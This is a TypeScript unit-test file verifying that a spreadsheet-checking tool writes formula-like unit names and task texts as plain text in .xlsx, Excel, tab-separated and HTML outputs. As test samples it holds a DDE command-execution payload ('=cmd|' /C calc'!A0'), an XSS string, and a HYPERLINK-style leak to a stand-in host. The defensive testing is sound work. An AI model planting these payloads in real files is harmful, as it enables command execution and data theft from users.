/**
 * Text that looks like code stays text: unit names and task texts starting with = + - @ (and DDE forms such as
 * =cmd|' /C calc'!A0, =HYPERLINK(…), tab or CR before "="), written into every sheet we write — by the .xlsx
 * port (re-read with exceljs: strings, never formulas) and in Excel (the double: no formula set, number format
 * "@", the text exactly) — and into the tab-separated table (a leading '); HTML is escaped in the summary HTML.
 * (The task pane's rendering: paneMarkup.test.ts.)
 */
import ExcelJS from "exceljs";
import { annotate, checkPlan, totalsByUnit } from "../../src/app/actions";
import { findingsSheet, totalsSheet } from "../../src/app/reportSheets";
import { analyze } from "../../src/core/analyze";
import { escapeHtml, totalsHtml, totalsTsv, tsvCell } from "../../src/core/summary";
import type { Finding, Report, UnitTotals } from "../../src/core/types";
import { ExcelDouble, doubleFromXlsx } from "../doubles/excel";
import { loadWorkbook } from "../xlsx/workbookDump";
import { AS_OF, INJECTION_TEXTS, bytesOf, CORPUS } from "./corpus";
import { excelPort, expectTextCells, reportSheets, xlsxPort } from "./helpers";

const FORMULA_LIKE = /^\s*[=+\-@]/;
const formulaLike = INJECTION_TEXTS.filter((text) => FORMULA_LIKE.test(text));

/** A report whose every text field a sheet shows carries the formula-like texts. */
function injectedReport(language: Report["language"]): Report {
  const base = analyze(
    [
      {
        sheet: "分工方案",
        origin: { row: 1, column: 1 },
        values: [
          ["序号", "工作任务", "牵头单位", "完成时限"],
          [1, "推进政务公开", "省财政厅", "2017年6月30日"],
        ],
        merges: [],
      },
    ],
    { asOf: AS_OF, language },
  );
  const findings: Finding[] = INJECTION_TEXTS.map((text, i) => ({
    ...base.findings[0],
    rule: "unit.unknown",
    severity: "warning",
    sheet: "分工方案",
    row: i + 2,
    column: "C",
    message: text,
    suggestion: text,
    params: {},
  }));
  const totals: UnitTotals[] = INJECTION_TEXTS.map((unit) => ({
    unit,
    lead: 1,
    responsible: 0,
    overdue: 1,
    overdueAsLead: 1,
    dueSoon: 0,
    done: 0,
    completionRate: 0,
  }));
  return { ...base, findings, totals };
}

const entry = CORPUS.find((e) => e.name === "formula-like-text")!;

describe("the .xlsx port (command line --out, standalone download)", () => {
  /** Every cell of our sheets in the written file, re-read by exceljs. */
  async function ourCells(report: Report): Promise<{ sheet: string; address: string; type: number; text: unknown }[]> {
    const port = await xlsxPort(await bytesOf(entry), "formula-like-text.xlsx");
    await annotate(port, report);
    const copy = await loadWorkbook(await port.toBuffer());
    const cells: { sheet: string; address: string; type: number; text: unknown }[] = [];
    for (const sheet of copy.worksheets.filter((ws) =>
      ["问题清单", "按单位汇总", "Findings", "Totals by unit"].includes(ws.name),
    )) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells.push({
            sheet: sheet.name,
            address: cell.address,
            type: cell.type as unknown as number,
            text: cell.text,
          });
        }),
      );
    }
    return cells;
  }

  it.each(["zh-CN", "en-US"] as const)(
    "hand-made report (%s): every formula-like text is a string cell, never a formula",
    async (language) => {
      const cells = await ourCells(injectedReport(language));
      expect(cells.length).toBeGreaterThan(INJECTION_TEXTS.length * 3);
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
      const texts = cells.map((cell) => cell.text);
      // Every text comes back whole, as text: a tab or line break before "=" included.
      // (XML reads a carriage return as a line feed: "\r=1+1" comes back as "\n=1+1", still text.)
      const asRead = (text: string) => text.replace(/\r\n?/g, "\n");
      for (const text of INJECTION_TEXTS)
        expect(texts.filter((t) => t === asRead(text)).length).toBeGreaterThanOrEqual(3);
      for (const cell of cells.filter((c) => typeof c.text === "string" && FORMULA_LIKE.test(c.text as string))) {
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Hyperlink, ExcelJS.ValueType.RichText]).toContain(
          cell.type,
        );
      }
    },
  );

  it("the corpus workbook checked as the command line does: no formula in any sheet we wrote", async () => {
    const port = await xlsxPort(await bytesOf(entry), "formula-like-text.xlsx");
    const { check } = await import("../../src/app/check");
    const report = await check(port, { asOf: AS_OF });
    await annotate(port, report);
    const copy = await loadWorkbook(await port.toBuffer());
    const ours = copy.worksheets.filter((ws) => ws.name === "问题清单" || ws.name === "按单位汇总");
    expect(ours).toHaveLength(2);
    const units = new Set<string>();
    for (const ws of ours) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (ws.name === "按单位汇总") units.add(String(cell.text));
        }),
      );
    }
    // The formula-like unit names the parser kept are in the totals sheet, as text.
    expect([...units].filter((unit) => FORMULA_LIKE.test(unit)).length).toBeGreaterThanOrEqual(3);
    // The plan sheet's own text cells stay text too.
    const plan = copy.getWorksheet("分工方案")!;
    expect(plan.getCell("B2").type).toBe(ExcelJS.ValueType.String);
    expect(plan.getCell("B2").value).toBe("=cmd|' /C calc'!A0");
  });
});

describe("Excel (the double parses what it is given, as Excel does: '=…' becomes a formula unless the cell is text)", () => {
  it("our sheets from a hand-made report: no formula set, every string formatted '@', the text exactly", async () => {
    const excel = new ExcelDouble();
    excel.addSheet("分工方案", { values: [["序号", "工作任务", "牵头单位"]] });
    const port = excelPort(excel);
    const report = injectedReport("zh-CN");
    await port.writeReportSheet(findingsSheet(report));
    await port.writeReportSheet(totalsSheet(report));
    const sheets = reportSheets(excel.snapshot());
    expect(sheets.map((sheet) => sheet.name).sort()).toEqual(["按单位汇总", "问题清单"]);
    for (const sheet of sheets) expectTextCells(sheet);
    const written = sheets.flatMap((sheet) => Object.values(sheet.cells).map((cell) => cell.v));
    for (const text of INJECTION_TEXTS) expect(written.filter((v) => v === text).length).toBeGreaterThanOrEqual(3);
    expect(written).not.toContain("#NAME?");
  });

  it("the corpus workbook through Check and Totals: the same", async () => {
    const excel = await doubleFromXlsx(await bytesOf(entry));
    const port = excelPort(excel);
    await checkPlan(port, { asOf: AS_OF });
    await totalsByUnit(port, { asOf: AS_OF });
    const sheets = reportSheets(excel.snapshot());
    expect(sheets).toHaveLength(2);
    for (const sheet of sheets) expectTextCells(sheet);
    const units = Object.entries(sheets.find((s) => s.name === "按单位汇总")!.cells)
      .filter(([address]) => /^A\d+$/.test(address))
      .map(([, cell]) => String(cell.v));
    expect(units.filter((unit) => FORMULA_LIKE.test(unit)).length).toBeGreaterThanOrEqual(3);
  });
});

describe("the tab-separated table (pasted into Word or a spreadsheet)", () => {
  it.each(formulaLike.map((text) => [JSON.stringify(text), text]))(
    "%s gets a leading ' and stays one cell",
    (_name, text) => {
      const cell = tsvCell(text);
      expect(cell.startsWith("'")).toBe(true);
      expect(cell).not.toMatch(/[\t\r\n]/);
    },
  );

  it("text that is not formula-like is left as it is; numbers are numbers", () => {
    expect(tsvCell("省财政厅")).toBe("省财政厅");
    expect(tsvCell("<img src=x onerror=alert(1)>")).toBe("<img src=x onerror=alert(1)>");
    expect(tsvCell(-3)).toBe("-3");
  });

  it("the whole table: one line per unit, every formula-like unit neutralised", () => {
    const report = injectedReport("zh-CN");
    const lines = totalsTsv(report.totals, "zh-CN").split("\n");
    expect(lines).toHaveLength(INJECTION_TEXTS.length + 1);
    for (const line of lines.slice(1)) {
      const [unit, ...numbers] = line.split("\t");
      expect(numbers).toHaveLength(7);
      expect(FORMULA_LIKE.test(unit) && !unit.startsWith("'")).toBe(false);
    }
  });
});

describe("the summary HTML (copied to the clipboard as text/html)", () => {
  it("escapes markup in unit names: no tag, no attribute of theirs", () => {
    const html = totalsHtml(injectedReport("zh-CN").totals, "zh-CN");
    expect(html).not.toMatch(/<img|<script|onerror=alert\(1\)>/i);
    expect(html).toContain(escapeHtml("<img src=x onerror=alert(1)>"));
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("&quot;http://example.invalid/?leak=&quot;&amp;A1");
    // Only our own tags remain.
    expect([...new Set(html.match(/<\/?([a-z]+)/g))].sort()).toEqual([
      "</table",
      "</td",
      "</th",
      "</tr",
      "<table",
      "<td",
      "<th",
      "<tr",
    ]);
  });
});
